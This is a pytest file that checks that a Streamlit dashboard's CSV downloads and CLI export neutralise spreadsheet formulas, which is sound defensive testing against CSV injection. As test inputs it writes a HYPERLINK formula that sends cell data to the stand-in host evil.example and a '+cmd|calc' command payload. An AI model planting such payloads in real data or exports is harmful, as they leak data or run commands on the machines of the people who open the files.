"""Issue 12 point 3: no CSV the product writes can carry a spreadsheet formula (OWASP CSV injection).

Every download of every page is read back (AppTest keeps downloads in an in-memory media store; the
test records what it holds) on a database whose display names, route names and a failed log-in name
are formulas; the CLI's segment export likewise; csv_safe itself against a plain reference."""
from __future__ import annotations

import ast
import csv
import io
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings, strategies as st
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from dashboard.core import audit, csv_safe, storage
from dashboard.access import logins
ROOT = Path(__file__).resolve().parent.parent
NAV = ROOT / "dashboard" / "web" / "navigation.py"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DANGER = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def unsafe_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with a formula character (numbers are fine)."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [c for row in rows for c in row if c.startswith(DANGER) and not _is_number(c)]


# ---- the rule, against a plain reference ---------------------------------------------------------

def reference(value):
    return "'" + value if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


@settings(max_examples=200, deadline=None)
@given(texts=st.lists(st.text(max_size=8), min_size=1, max_size=6),
       numbers=st.lists(st.integers(-10**6, 10**6), min_size=1, max_size=6))
def test_text_cells_are_neutralised_and_numbers_stay_numbers(texts, numbers):
    n = min(len(texts), len(numbers))
    frame = pd.DataFrame({"text": texts[:n], "n": numbers[:n], "-header": texts[:n]})
    out = csv_safe.neutralised(frame)
    assert out["text"].tolist() == [reference(t) for t in texts[:n]]
    assert out["n"].tolist() == numbers[:n] and pd.api.types.is_integer_dtype(out["n"])
    assert list(out.columns) == ["text", "n", "'-header"]
    assert frame["text"].tolist() == texts[:n]  # the caller's frame is not changed


def test_no_module_writes_csv_around_csv_safe():
    """A wall: every CSV writer in dashboard/ and pages/ goes through csv_safe (to_csv nowhere else)."""
    offenders = []
    for path in [*(ROOT / "dashboard").rglob("*.py"), *(ROOT / "pages").glob("*.py")]:
        if path.name == "csv_safe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            on = node.value.id if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) else None
            if isinstance(node, ast.Attribute) and (
                    (node.attr == "to_csv" and on != "csv_safe") or (on == "csv" and node.attr in ("writer", "DictWriter"))):
                offenders.append(f"{path.name}:{node.lineno} {node.attr}")
    assert offenders == []


# ---- every download of every page ----------------------------------------------------------------

@pytest.fixture
def downloads(monkeypatch):
    """{file name: bytes} of every download button AppTest rendered."""
    files: dict[str, bytes] = {}

    class Recording(MemoryMediaFileStorage):
        def load_and_get_id(self, path_or_data, mimetype, kind, filename=None):
            if filename and isinstance(path_or_data, bytes):
                files[filename] = path_or_data
            return super().load_and_get_id(path_or_data, mimetype, kind, filename)

    monkeypatch.setattr("streamlit.testing.v1.app_test.MemoryMediaFileStorage", Recording)
    return files


@pytest.fixture
def poisoned(demo_copy, monkeypatch):
    """Display names, route names and a failed log-in name that are formulas."""
    con = storage.connect(demo_copy)
    con.execute("update friends set display_name = $f", {"f": FORMULA})
    con.execute("update inflow_routes set name_ja = '@SUM(1+1)', name_en = '+cmd|calc'")
    monkeypatch.setenv("DASHBOARD_SECRETS_FILE", str(demo_copy.parent / "none.toml"))
    logins.check_login(con.cursor(), FORMULA, "guess", "203.0.113.9")   # stored hashed since issue 12
    audit.record(con.cursor(), FORMULA, "segment.save", "segment:" + FORMULA, {"name": FORMULA})
    con.close()
    monkeypatch.setenv("DASHBOARD_DB", str(demo_copy))
    return demo_copy


PAGES_WITH_CSV = ["overview", "acquisition", "funnel", "cohorts", "engagement", "deliveries", "segments", "audit"]


def test_every_page_download_is_free_of_formulas(poisoned, downloads):
    at = AppTest.from_file(str(NAV), default_timeout=90)
    at.run()
    for page in PAGES_WITH_CSV:
        at.switch_page(f"../../pages/{page}.py").run()
        assert not at.exception, (page, at.exception)
    expected = {"adds_blocks_daily.csv", "adds_by_weekday_hour.csv", "route_quality.csv", "retention_weekly.csv",
                "reactions_per_delivery.csv", "segment_sample.csv", "audit_log.csv", "interest_genre_matrix.csv"}
    assert expected <= set(downloads), sorted(downloads)
    for name, data in downloads.items():
        assert unsafe_cells(data) == [], name
    assert "'" + FORMULA.replace('"', '""') in downloads["segment_sample.csv"].decode("utf-8-sig")
    log = downloads["audit_log.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK" in log                      # the actor, kept as text
    assert log.count("HYPERLINK") == 3               # actor, object, detail; the failed log-in name is only a hash


def test_cli_segment_export_is_free_of_formulas(poisoned, tmp_path):
    rule = tmp_path / "rule.json"
    rule.write_text('{"version": 1, "rule": {"field": "following", "value": true}}', encoding="utf-8")
    out = tmp_path / "ids.csv"
    done = subprocess.run([sys.executable, "-m", "dashboard", "segment", "--db", str(poisoned), "--rule", str(rule),
                           "--export", str(out)], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert unsafe_cells(out.read_bytes()) == [] and out.read_text().startswith("user_id")
